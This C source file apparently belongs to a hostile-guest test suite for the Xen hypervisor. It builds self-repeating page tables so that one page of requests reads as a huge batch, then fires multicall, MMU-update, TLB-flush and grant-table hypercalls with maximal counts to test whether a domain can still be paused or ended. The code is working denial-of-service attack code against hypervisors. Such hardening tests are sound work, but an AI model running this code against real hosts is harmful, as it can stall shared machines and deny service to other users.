/* SPDX-License-Identifier: MIT */
/*
 * Batches that would take hours: one page of requests, seen half a terabyte long through tables
 * that name each other 512 times over. Whoever pauses or ends this domain must not wait for them.
 */
#include "pvguest/hostile/attack.h"
#include "pvguest/kernel/hypercall.h"
#include "pvguest/kernel/page.h"
#include "pvguest/kernel/table.h"

#include "lib/string.h"
#include <xen/grant_table.h>

#define SLOT_WINDOW    300
#define WINDOW_ADDRESS 0xffff960000000000UL /* where that slot begins */
#define COUNT_MAX      0x7fffffffU

/* All 512 entries of a fresh table name the same frame. */
static uint64_t *table_repeating(uint64_t mfn, uint64_t flags)
{
    uint64_t *table = page_allocate(0);

    for (unsigned int i = 0; i < TABLE_ENTRIES; i++)
        table[i] = mfn << PAGE_SHIFT | flags;
    return table_protect(table) ? NULL : table;
}

/* The page again and again, from WINDOW_ADDRESS on; NULL: the hypervisor would not. */
static void *window_repeating(void *page)
{
    uint64_t *level1 = table_repeating(page_mfn(page), PTE_DATA);
    uint64_t *level2 = level1 ? table_repeating(page_mfn(level1), PTE_TABLE) : NULL;
    uint64_t *level3 = level2 ? table_repeating(page_mfn(level2), PTE_TABLE) : NULL;
    struct mmu_update update = {.ptr = (table_root_mfn() << PAGE_SHIFT) + SLOT_WINDOW * 8};

    if (!level3)
        return NULL;
    update.val = page_mfn(level3) << PAGE_SHIFT | PTE_TABLE;
    return hypercall_mmu_update(&update, 1, NULL, DOMID_SELF) ? NULL : (void *)WINDOW_ADDRESS;
}

/* Fill a page with copies of a request. */
static void *page_of_requests(const void *request, size_t size)
{
    char *page = page_allocate(0);

    for (size_t at = 0; at + size <= PAGE_SIZE; at += size)
        memcpy(page + at, request, size);
    return window_repeating(page);
}

static bool multicalls(void)
{
    struct multicall_entry call = {.op = __HYPERVISOR_xen_version};
    void *list = page_of_requests(&call, sizeof(call));

    return list && hypercall_multicall(list, COUNT_MAX) == 0;
}

/* One multicall of batches, each as long as batches get. */
static bool updates(void)
{
    struct mmu_update update = {.ptr = page_mfn(page_allocate(0)) << PAGE_SHIFT};
    void *list = page_of_requests(&update, sizeof(update));
    struct multicall_entry call = {.op = __HYPERVISOR_mmu_update,
                                   .args = {(unsigned long)list, COUNT_MAX, 0, DOMID_SELF}};

    return list && hypercall_multicall(&call, 1) == 0;
}

/* A request is three words: with the command in each of them it may begin anywhere. */
static bool flushes(void)
{
    uint64_t command = MMUEXT_TLB_FLUSH_LOCAL;
    void *list = page_of_requests(&command, sizeof(command));

    return list && hypercall_mmuext_op(list, COUNT_MAX, NULL, DOMID_SELF) == 0;
}

static bool copies(void)
{
    struct gnttab_cache_flush nothing = {.length = 0};
    void *list = page_of_requests(&nothing, sizeof(nothing));

    return list && hypercall_grant_table_op(GNTTABOP_cache_flush, list, COUNT_MAX) == 0;
}

const struct attack endless_attacks[] = {
    {"endless-multicall", FOR_EVER, multicalls},
    {"endless-updates", FOR_EVER, updates},
    {"endless-flushes", FOR_EVER, flushes},
    {"endless-copies", FOR_EVER, copies},
    {NULL, REFUSED, NULL},
};
